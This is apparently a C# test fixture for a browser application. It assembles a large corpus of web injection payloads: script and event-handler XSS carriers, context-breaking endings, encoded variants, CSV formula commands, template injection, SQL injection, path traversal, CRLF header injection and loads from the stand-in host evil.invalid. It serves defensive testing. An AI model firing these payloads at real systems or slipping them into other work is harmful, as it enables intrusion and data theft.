namespace CommandCentre.Browser.Tests.Injection;

/// <summary>Texts that would like to be more than text, put together from parts: what gets out of where a text stands, and what then runs, loads or takes over.</summary>
internal static class InjectionCorpus
{
    private const string Run = "window.ran=1";

    /// <summary>Elements and attributes that run or load something once they are markup.</summary>
    public static IReadOnlyList<string> Carriers { get; } =
    [
        $"<script>{Run}</script>",
        "<script src=//evil.invalid/x></script>",
        $"<img src=x onerror={Run}>",
        $"<svg onload={Run}>",
        $"<svg><animate onbegin={Run} attributeName=x>",
        $"<iframe srcdoc='<script>parent.ran=1</script>'>",
        $"<a href=javascript:{Run}>go</a>",
        $"<form action=javascript:{Run}><button>",
        $"<input autofocus onfocus={Run}>",
        $"<details open ontoggle={Run}>",
        $"<body onpageshow={Run}>",
        "<style>@import '//evil.invalid/x'</style>",
        "<link rel=stylesheet href=//evil.invalid/x>",
        "<meta http-equiv=refresh content=0;//evil.invalid>",
        "<object data=//evil.invalid/x></object>",
        "<embed src=//evil.invalid/x>",
        "<base href=//evil.invalid/>",
        $"<math><a xlink:href=javascript:{Run}>m",
        $"<video><source onerror={Run}>",
        $"<marquee onstart={Run}>m</marquee>",
        "<turbo-stream action=remove target=main></turbo-stream>",
        "<turbo-frame src=//evil.invalid/x></turbo-frame>",
        $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">",
        $"<x onclick={Run} style=position:fixed;inset:0>x",
        "<img src=//evil.invalid/x>",
    ];

    // Ends of what a text may stand in: an attribute, an element, a comment, a script, a style, a JSON string, a stream of Turbo.
    private static readonly string[] Ends =
    [
        string.Empty, "\">", "'>", "\" x=\"", "-->", "</textarea>", "</title>", "</script>", "</style>", "</bdi></a></li>", "]]>", "`>", "</template></turbo-stream>", "\\\"}]}",
    ];

    /// <summary>Attributes for a text that stands in one.</summary>
    private static IEnumerable<string> Attributes =>
        from quote in new[] { "\"", "'", "`", string.Empty }
        from handler in new[] { "onmouseover", "onfocus", "onload", "onanimationend", "style", "formaction", "data-turbo-action", "srcdoc" }
        select $"{quote} {handler}={quote}{(handler is "style" ? "background:url(//evil.invalid/x)" : handler is "formaction" ? "javascript:" + Run : Run)} {quote}";

    /// <summary>The same once more in disguise: as entities, escapes, other widths and cases, broken by what browsers skip.</summary>
    private static IEnumerable<string> Disguised => Carriers.Take(7).SelectMany(carrier => new[]
    {
        carrier.Replace("<", "&lt;", StringComparison.Ordinal).Replace(">", "&gt;", StringComparison.Ordinal),
        carrier.Replace("<", "&#60;", StringComparison.Ordinal),
        carrier.Replace("<", "&amp;lt;", StringComparison.Ordinal),
        carrier.Replace("<", "%3C", StringComparison.Ordinal).Replace(">", "%3E", StringComparison.Ordinal),
        carrier.Replace("<", "\\u003c", StringComparison.Ordinal),
        carrier.Replace("<", "\\x3c", StringComparison.Ordinal),
        carrier.Replace("<", "\uff1c", StringComparison.Ordinal).Replace(">", "\uff1e", StringComparison.Ordinal),
        carrier.Replace("<", "+ADw-", StringComparison.Ordinal),
        carrier.ToUpperInvariant(),
        carrier.Replace("<", "<\u00ad", StringComparison.Ordinal),
        carrier.Replace("=", "\u00a0=\u00a0", StringComparison.Ordinal),
        carrier.Replace("s", "\u017f", StringComparison.Ordinal),
    });

    /// <summary>What spreadsheets, templates, addresses, styles and readers of JSON would take for their own.</summary>
    private static IEnumerable<string> OfOthers =>
    [
        "=cmd|'/C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "%0A=1+1", "|=1+1", " =HYPERLINK(\"//evil.invalid\")", "=IMPORTXML(\"//evil.invalid\",\"//a\")",
        $"{{{{constructor.constructor('{Run}')()}}}}", $"${{{Run}}}", $"<%= {Run} %>", $"#{{{Run}}}", $"*{{{Run}}}", $"@({Run})", "@Html.Raw(1)", "{0}{1}{2}", "{0:x}", "%s%n%x",
        $"javascript:{Run}", $"JaVaScRiPt:{Run}", $"java&#115;cript:{Run}", $"vbscript:{Run}", $"data:text/html,<script>{Run}</script>", $"data:image/svg+xml,<svg onload={Run}>", "//evil.invalid/x", "https://evil.invalid/x", "\\\\evil.invalid\\x",
        $"expression({Run})", "}*{background:url(//evil.invalid/x)}", ";background:url(//evil.invalid/x)", "/*", "*/", "\\9",
        $"\"}});{Run};//", $"'-{Run}-'", $"\";{Run};\"", $"\\\";{Run};//", "\"__proto__\":{\"x\":1}", "__proto__", "constructor", "null", "undefined", "true", "[]", "{}", "\\", "\"", "'", "<", ">", "&", "&amp;", "<!--", "<![CDATA[", "<?xml ?>",
        "../../../../etc/passwd", "%2e%2e%2f", "%00", "%0d%0aSet-Cookie: x=1", "';DROP TABLE lines;--", "\" OR \"\"=\"",
        "<svg><style><img src=x onerror=window.ran=1></style>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.ran=1&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.ran=1>",
        "<select><template><img src=x onerror=window.ran=1></template></select>", "<p id=main><p id=feed>", "<input name=id value=x>", "<input name=__RequestVerificationToken>", "<a id=document name=cookie>",
    ];

    /// <summary>All of it, each once, in an order that stays.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Ends.SelectMany(end => Carriers.Select(carrier => end + carrier)).Concat(Attributes).Concat(Disguised).Concat(OfOthers).Distinct(StringComparer.Ordinal)];
}
